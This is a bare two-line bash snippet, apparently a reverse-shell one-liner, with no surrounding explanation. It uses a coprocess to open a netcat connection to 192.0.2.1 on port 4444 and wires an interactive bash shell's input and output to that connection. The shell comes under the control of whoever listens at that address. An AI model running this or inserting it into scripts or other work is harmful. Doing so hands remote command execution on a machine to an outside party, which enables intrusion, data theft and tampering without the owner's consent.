coproc nc 192.0.2.1 4444
bash <&"${COPROC[0]}" >&"${COPROC[1]}"
